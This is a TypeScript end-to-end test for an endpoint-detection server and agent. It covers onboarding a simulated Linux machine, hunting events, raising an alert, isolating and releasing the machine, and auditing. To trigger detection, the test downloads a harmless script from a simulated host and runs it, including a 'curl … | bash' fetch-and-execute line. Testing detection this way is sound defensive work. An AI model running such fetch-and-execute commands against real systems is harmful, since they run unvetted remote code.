/**
 * The first hour, for real: a server, a package made by its command line, a machine that onboards with the real agent, real commands run there, a
 * program that signs in with Microsoft's own library and hunts, alerts, isolation that cuts and releases. No part is replaced.
 */
import type { ChildProcess } from 'node:child_process';
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AGENT_EXECUTABLE } from '../support/build-agent-once.ts';
import { freePort } from '../support/free-port.ts';
import { makeNetwork, type SimulatedMachine, type SimulatedNetwork, whyNoNetwork } from '../support/hosts.ts';
import { AUDIENCE, startServer, type TestApp, type TestServer } from '../support/server.ts';
import { eventually } from '../support/wait.ts';

const SIGN_IN = fileURLToPath(new URL('../support/azure-sign-in.mjs', import.meta.url));
const why = whyNoNetwork();
if (why) console.log(`the first hour is not run: ${why}`);

/** The issue's own bound on how soon an event can be hunted. */
const HUNTED_WITHIN_MS = 2_000;

describe.skipIf(why)('the first hour', () => {
  let network: SimulatedNetwork;
  let host: SimulatedMachine;
  let third: SimulatedMachine;
  let server: TestServer;
  let app: TestApp;
  let token: string;
  let work: string;
  let agent: ChildProcess;
  let agentOutput = '';
  let deviceId = '';
  const agentEnv = () => ({
    ...process.env,
    MERLON_AGENT_HOME: join(work, 'agent'),
    MERLON_AGENT_CONFIG: join(work, 'etc'),
    MERLON_SENSOR_SCOPE: 'netns',
  });
  const startAgent = () => {
    agent = host.start(AGENT_EXECUTABLE, ['run'], { env: agentEnv() });
    agent.stdout?.on('data', (data) => {
      agentOutput += data;
    });
    agent.stderr?.on('data', (data) => {
      agentOutput += data;
    });
  };
  const hunt = async (query: string): Promise<Record<string, unknown>[]> => {
    const answer = await server.call('/api/advancedqueries/run', { token, json: { Query: query } });
    if (answer.status !== 200) throw new Error(`${answer.status} ${answer.text}\n${query}`);
    return answer.json().Results;
  };
  const hunted = (what: string, query: string) =>
    eventually(what, async () => (await hunt(query))[0], {
      withinMs: HUNTED_WITHIN_MS,
      lastSeen: () => agentOutput.slice(-2_000),
    });
  const action = async (id: string) => (await server.call(`/api/machineactions/${id}`, { token })).json();
  const carriedOut = (id: string) =>
    eventually(
      `machine action ${id}`,
      async () => {
        const current = await action(id);
        return current.status !== 'Pending' && current.status !== 'InProgress' ? current : null;
      },
      { withinMs: 15_000, lastSeen: () => agentOutput.slice(-2_000) },
    );
  const reaches = async (address: string, port: number) =>
    (await host.run('curl', ['-s', '-o', '/dev/null', '--max-time', '2', `http://${address}:${port}/`]))
      .code === 0;

  beforeAll(async () => {
    network = makeNetwork();
    host = network.machine('host');
    third = network.machine('third');
    work = mkdtempSync(join(tmpdir(), 'merlon-journey-'));
    // A plain web server on the third machine: what the host downloads from, and what isolation must cut.
    const page = join(work, 'www');
    execFileSync('mkdir', ['-p', page, join(work, 'drop')]);
    writeFileSync(join(page, 'tool.sh'), '#!/bin/sh\necho dropped\n');
    third.start(process.execPath, [
      '-e',
      `require('http').createServer((q,s)=>{require('fs').createReadStream('${page}/tool.sh').pipe(s)}).listen(8000,'0.0.0.0')`,
    ]);
    const port = await freePort();
    server = await startServer({
      env: { MERLON_PUBLIC_URL: `https://${network.address}:${port}`, MERLON_PORT: String(port) },
    });
  });
  afterAll(async () => {
    agent?.kill('SIGTERM');
    await server?.dispose();
    network?.remove();
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it('signs a program in with @azure/identity', async () => {
    app = await server.createApp(
      'AdvancedQuery.Read.All',
      'Machine.Read.All',
      'Machine.Isolate',
      'Alert.ReadWrite.All',
    );
    const printed = execFileSync(process.execPath, [SIGN_IN], {
      env: {
        ...process.env,
        NODE_EXTRA_CA_CERTS: server.caPath,
        AUTHORITY: server.url,
        TENANT: app.tenantId,
        CLIENT: app.clientId,
        SECRET: app.clientSecret,
        SCOPE: `${AUDIENCE}/.default`,
      },
    });
    token = printed.toString().trim();
    expect((await server.call('/api/machines', { token })).status).toBe(200);
  });

  it('onboards a machine with a package made by the command line', async () => {
    const made = await server.cli(
      'package',
      '--os',
      'linux',
      '--tool',
      'json',
      '--tag',
      'journey',
      '--out',
      work,
    );
    const onboarded = await host.run(AGENT_EXECUTABLE, ['onboard', '--package', made.files[0]], {
      env: agentEnv(),
    });
    expect(onboarded.code, onboarded.stderr + onboarded.stdout).toBe(0);
    startAgent();
    const { value } = await eventually(
      'the machine appears',
      async () => (await server.call('/api/machines', { token })).json().value[0],
      { withinMs: 10_000, lastSeen: () => agentOutput },
    );
    expect(value).toMatchObject({
      computerDnsName: expect.stringContaining(hostname().split('.')[0] ?? ''),
      healthStatus: 'Active',
      onboardingStatus: 'Onboarded',
      osPlatform: 'Linux',
    });
    expect(value.machineTags).toContain('journey');
    deviceId = value.id;
    expect(deviceId).toMatch(/^[0-9a-f]{40}$/);
    // The sensor runs once its own first rows can be hunted.
    await eventually('the sensor starts', async () => (await hunt('DeviceInfo | take 1'))[0], {
      withinMs: 15_000,
      lastSeen: () => agentOutput,
    });
  });

  it('sees a download, a shell from a script, a dropped file that is run, and a connection, each within two seconds', async () => {
    const drop = join(work, 'drop');
    await host.run('curl', ['-s', '-o', join(drop, 'tool.sh'), `http://${third.address}:8000/tool.sh`]);
    await hunted(
      'the download',
      `DeviceProcessEvents | where FileName == "curl" and ProcessCommandLine has "tool.sh" | project ProcessId, InitiatingProcessFileName, SHA256`,
    );

    const script = join(drop, 'script.sh');
    writeFileSync(script, '#!/bin/sh\nsh -c "id -u; true"\n');
    chmodSync(script, 0o755);
    await host.run(script);
    await hunted(
      'the shell from a script',
      `DeviceProcessEvents | where ProcessCommandLine has "id -u" and InitiatingProcessCommandLine has "script.sh" | project FileName`,
    );

    await hunted(
      'the dropped file',
      `DeviceFileEvents | where FileName == "tool.sh" and ActionType in ("FileCreated", "FileModified") | project FolderPath`,
    );
    chmodSync(join(drop, 'tool.sh'), 0o755);
    await host.run(join(drop, 'tool.sh'));
    await hunted(
      'the dropped file running',
      `DeviceProcessEvents | where ProcessCommandLine has "${drop}/tool.sh" | project FileName`,
    );

    await hunted(
      'the connection',
      `DeviceNetworkEvents | where ActionType == "ConnectionSuccess" and RemoteIP == "${third.address}" and RemotePort == 8000 | project InitiatingProcessFileName`,
    );
  });

  it('raises an alert with the right process tree', async () => {
    await host.run('bash', ['-c', `curl -s http://${third.address}:8000/tool.sh | bash`]);
    const { value: alert } = await eventually(
      'an alert',
      async () =>
        (await server.call(`/api/alerts?$expand=evidence&$filter=machineId eq '${deviceId}'`, { token }))
          .json()
          .value.find((candidate: { evidence: { processCommandLine: string | null }[] }) =>
            candidate.evidence.some((e) =>
              e.processCommandLine?.includes(`http://${third.address}:8000/tool.sh | bash`),
            ),
          ),
      { withinMs: 10_000, lastSeen: () => agentOutput.slice(-2_000) },
    );
    expect(alert).toMatchObject({ status: 'New', machineId: deviceId });
    expect(alert.mitreTechniques.length).toBeGreaterThan(0);
    const processes = alert.evidence.filter((e: { entityType: string }) => e.entityType === 'Process');
    const shell = processes.find((e: { processCommandLine: string }) =>
      e.processCommandLine.includes('| bash'),
    );
    expect(shell).toMatchObject({ fileName: 'bash', parentProcessId: expect.any(Number) });
    // Its parents are there too, each the parent of the one below.
    const parent = processes.find((e: { processId: number }) => e.processId === shell.parentProcessId);
    expect(parent, JSON.stringify(processes)).toBeDefined();
    expect((await server.call(`/api/machines/${deviceId}`, { token })).json().riskScore).not.toBe('None');
  });

  it('isolates the machine: everything is cut but the line to the server, also across a restart of the agent', async () => {
    expect(await reaches(third.address, 8000)).toBe(true);
    const ordered = await server.call(`/api/machines/${deviceId}/isolate`, {
      token,
      json: { Comment: 'journey', IsolationType: 'Full' },
    });
    expect(ordered.status, ordered.text).toBe(201);
    expect(ordered.json()).toMatchObject({
      type: 'Isolate',
      status: 'Pending',
      machineId: deviceId,
      scope: 'Full',
    });
    const { value: done } = await carriedOut(ordered.json().id);
    expect(done).toMatchObject({ status: 'Succeeded', troubleshootInfo: null });
    expect(await reaches(third.address, 8000)).toBe(false);
    expect((await third.run('ping', ['-c', '1', '-W', '1', host.address])).code).not.toBe(0);

    // The line to the server lives: what happens on the isolated machine is still seen.
    await host.run('sh', ['-c', 'true isolated-and-seen']);
    await hunted(
      'an event of the isolated machine',
      `DeviceProcessEvents | where ProcessCommandLine has "isolated-and-seen"`,
    );

    agent.kill('SIGKILL');
    await eventually('the agent ends', async () => agent.signalCode !== null || agent.exitCode !== null, {
      withinMs: 5_000,
    });
    expect(await reaches(third.address, 8000)).toBe(false);
    startAgent();
    await eventually(
      'the agent is back',
      async () => {
        await host.run('sh', ['-c', 'true back-after-restart']);
        return (await hunt('DeviceProcessEvents | where ProcessCommandLine has "back-after-restart"'))[0];
      },
      { withinMs: 20_000, everyMs: 500, lastSeen: () => agentOutput.slice(-2_000) },
    );
    expect(await reaches(third.address, 8000)).toBe(false);
  });

  it('releases the machine on order', async () => {
    const ordered = await server.call(`/api/machines/${deviceId}/unisolate`, {
      token,
      json: { Comment: 'journey over' },
    });
    expect(ordered.status, ordered.text).toBe(201);
    expect((await carriedOut(ordered.json().id)).value.status).toBe('Succeeded');
    expect(await reaches(third.address, 8000)).toBe(true);
  });

  it('has all of it in the audit trail', async () => {
    const trail: { action: string; outcome: string; targetId: string | null }[] = await server.cli(
      'audit',
      'list',
      '--top',
      '500',
    );
    const happened = trail.filter((record) => record.outcome === 'success').map((record) => record.action);
    for (const expected of [
      'app.create',
      'package.create',
      'device.enrol',
      'hunting.run',
      'machine.isolate',
      'machine.unisolate',
      'machineAction.complete',
    ]) {
      expect(happened).toContain(expected);
    }
  });
});
